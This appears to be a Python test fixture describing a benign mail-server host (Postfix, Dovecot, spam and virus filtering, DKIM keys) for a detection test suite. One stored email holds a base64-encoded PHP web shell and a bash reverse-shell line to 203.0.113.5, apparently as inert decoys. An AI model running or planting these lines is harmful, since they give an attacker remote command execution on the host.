"""A mail server: Postfix in its chroot, Dovecot, a spam filter, a virus scanner, signing keys."""

from __future__ import annotations

from tests.behaviours.behaviour import Process
from tests.behaviours.clean import noise
from tests.behaviours.clean.host import PROGRAM, CleanHost, Package, daemon
from tests.behaviours.clean.web import CERTIFICATE_KEY

LINES = [
    line
    for number in range(40)
    for line in (
        f"postfix/smtpd[{2000 + number}]: connect from unknown[203.0.113.{number}]",
        f"postfix/smtpd[{2000 + number}]: NOQUEUE: reject: RCPT from unknown[203.0.113.{number}]: 554 5.7.1 <x@y>: Relay access denied; from=<a@b> to=<x@y> proto=ESMTP helo=<x>",
        f"postfix/smtpd[{2000 + number}]: warning: unknown[203.0.113.{number}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
        f"postfix/qmgr[900]: 4F{number:06d}: from=<news@example.org>, size=5120, nrcpt=1 (queue active)",
        f"dovecot: imap-login: Disconnected (auth failed, 3 attempts in 17 secs): user=<root>, method=PLAIN, rip=203.0.113.{number}, lip=192.0.2.25, TLS",
        "clamd[700]: SelfCheck: Database status OK.",
        "spamd[710]: spamd: clean message (0.1/5.0) for user:113 in 0.3 seconds, 1800 bytes.",
    )
]

HOST = CleanHost(
    name="mail",
    does="Takes, filters, keeps and sends mail.",
    accounts=(
        "postfix:x:110:110::/var/spool/postfix:/usr/sbin/nologin",
        "dovecot:x:111:111:Dovecot mail server,,,:/usr/lib/dovecot:/usr/sbin/nologin",
        "vmail:x:5000:5000::/var/vmail:/usr/sbin/nologin",
        "opendkim:x:112:112::/run/opendkim:/usr/sbin/nologin",
        "clamav:x:113:113::/var/lib/clamav:/bin/false",
        "postmaster:x:1000:1000:Postmaster:/home/postmaster:/bin/bash",
    ),
    packages=(
        Package(
            "postfix",
            {
                "/usr/lib/postfix/sbin/master": PROGRAM, "/usr/lib/postfix/sbin/qmgr": PROGRAM, "/usr/lib/postfix/sbin/smtpd": PROGRAM, "/usr/sbin/postdrop": PROGRAM,
                "/etc/network/if-up.d/postfix": "#!/bin/sh -e\n# Called when a new interface comes up\n[ -x /usr/sbin/postfix ] || exit 0\npostfix flush >/dev/null 2>&1 &\nexit 0\n",
                "/etc/ppp/ip-up.d/postfix": "#!/bin/sh -e\nexit 0\n", "/etc/resolvconf/update-libc.d/postfix": "#!/bin/sh\ncp /etc/resolv.conf /var/spool/postfix/etc/resolv.conf\n",
            },
            {"/etc/network/if-up.d/postfix": 0o755, "/etc/ppp/ip-up.d/postfix": 0o755},
        ),
        Package("dovecot-core", {"/usr/sbin/dovecot": PROGRAM, "/usr/lib/dovecot/imap-login": PROGRAM, "/etc/pam.d/dovecot-imap": "@include common-auth\n@include common-account\n@include common-session\n"}),
        Package("clamav-daemon", {"/usr/sbin/clamd": PROGRAM}),
        Package("opendkim", {"/usr/sbin/opendkim": PROGRAM}),
        Package("procmail", {"/usr/bin/procmail": PROGRAM}, {"/usr/bin/procmail": 0o6755}),
        Package("spamassassin", {"/usr/sbin/spamd": "#!/usr/bin/perl -T -w\nuse strict;\n", "/etc/cron.daily/spamassassin": "#!/bin/sh\nset -e\n# Sleep for up to 3600 seconds\nrandom=$(od -vAn -N2 -tu4 < /dev/urandom)\nsleep $((random % 3600))\nsa-update && service spamassassin reload\n"}, {"/usr/sbin/spamd": 0o755, "/etc/cron.daily/spamassassin": 0o755}),
    ),
    files={
        "/etc/postfix/main.cf": "smtpd_banner = $myhostname ESMTP\nmailbox_command = procmail -a \"$EXTENSION\"\n",
        "/etc/postfix/master.cf": "smtp inet n - y - - smtpd\npolicyd-spf unix - n n - 0 spawn user=nobody argv=/usr/bin/policyd-spf\n",
        "/etc/aliases": "postmaster: root\nlist: \"|/usr/lib/mailman/mail/mailman post list\"\n",
        "/etc/dkimkeys/mail.private": CERTIFICATE_KEY,
        "/etc/ssl/private/mail.pem": CERTIFICATE_KEY,
        "/home/postmaster/.forward": "\"|/usr/bin/procmail\"\n",
        "/home/postmaster/.procmailrc": ":0:\n* ^X-Spam-Flag: YES\nSpam/\n",
        "/home/postmaster/.bash_history": "postqueue -p\npostsuper -d ALL deferred\nopenssl s_client -connect mail.example.org:465 -quiet\ntelnet localhost 25\ntail -f /var/log/mail.log\nswaks --to x@y\nsudo systemctl stop clamav-freshclam\nbase64 -d <<< aGk=\n",
        "/etc/cron.d/mailman": "0 8 * * * list [ -x /usr/lib/mailman/cron/checkdbs ] && /usr/lib/mailman/cron/checkdbs\n",
        "/etc/cron.d/rspamd": "*/20 * * * * root curl -sf http://127.0.0.1:11334/stat > /var/lib/rspamd/stat.json\n",
        "/var/spool/cron/crontabs/root": "0 5 * * * /usr/bin/sa-learn --spam /var/vmail/example.org/*/Maildir/.Junk/cur >/dev/null\n@weekly tar czf /var/backups/vmail.tgz /var/vmail && rsync -a /var/backups/ backup@192.0.2.9:mail/\n",
        "/var/vmail/example.org/ann/Maildir/cur/1700.M1.mail:2,S": "Subject: your invoice\nContent-Transfer-Encoding: base64\n\nPD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pgo=\nbash -i >& /dev/tcp/203.0.113.5/443 0>&1\n",
        "/var/vmail/example.org/ann/sieve/main.sieve": "require [\"fileinto\"];\nif header :contains \"x\" \"y\" { fileinto \"z\"; }\n",
        "/var/spool/postfix/etc/services": "smtp 25/tcp\n",
        "/var/spool/postfix/etc/hosts": "127.0.0.1 localhost\n",
        "/var/log/mail.log": noise.syslog("mx1", LINES),
        "/var/log/clamav/clamav.log": "Tue Nov 24 01:00:00 2026 -> SelfCheck: Database status OK.\n",
        "/var/log/auth.log": noise.auth("mx1", "postmaster"),
        "/var/log/syslog": noise.system("mx1"),
        "/var/www/html/webmail/index.php": "<?php\n$RCMAIL = rcmail::get_instance();\n$m = base64_decode($_POST['_m']);\n",
        "/var/www/html/webmail/program/lib/Mail/sendmail.php": "<?php\n$mail = @popen($this->sendmail_path, 'w');\n",
    },
    modes={"/etc/dkimkeys/mail.private": 0o600, "/etc/ssl/private/mail.pem": 0o640, "/var/spool/cron/crontabs/root": 0o600},
    binaries={"/var/log/wtmp": noise.wtmp(["postmaster"]), "/var/log/btmp": noise.btmp()},
    shell="""
mkdir -p /var/spool/postfix/dev /var/spool/postfix/private /var/spool/postfix/maildrop /var/lib/amavis/tmp/amavis-1/parts
mknod -m 666 /var/spool/postfix/dev/urandom c 1 9
chown 110 /var/spool/postfix/private; chown -R 5000:5000 /var/vmail; chown 112:112 /etc/dkimkeys/mail.private
chown -R 1000:1000 /home/postmaster
cp /bin/true /var/lib/amavis/tmp/amavis-1/parts/p001
""",
    processes=(
        daemon("/usr/lib/postfix/sbin/master", "/usr/lib/postfix/sbin/master", "-w", do=("listen tcp :25", "listen tcp :587"), children=(
            daemon("/usr/lib/postfix/sbin/qmgr", "qmgr", "-l", "-t", "unix", "-u", uid=110),
            daemon("/usr/lib/postfix/sbin/smtpd", "smtpd", "-n", "smtp", "-t", "inet", "-u", "-c", do=(), uid=110),
            Process("/bin/sh", ("/bin/sh", "-c", "sleep 100000; procmail -a"), None),
        )),
        daemon("/usr/sbin/dovecot", "/usr/sbin/dovecot", "-F", do=("listen tcp :993",), children=(
            daemon("/usr/lib/dovecot/imap-login", "dovecot/imap-login", uid=111),
        )),
        daemon("/usr/sbin/clamd", "/usr/sbin/clamd", "--foreground=true", do=("rwx",), uid=113),
        daemon("/usr/sbin/opendkim", "/usr/sbin/opendkim", "-x", "/etc/opendkim.conf", uid=112),
        Process("/usr/bin/perl", ("/usr/bin/perl", "-T", "-w", "-e", "sleep 100000", "/usr/sbin/spamd", "--create-prefs"), None),
    ),
)  # fmt: skip
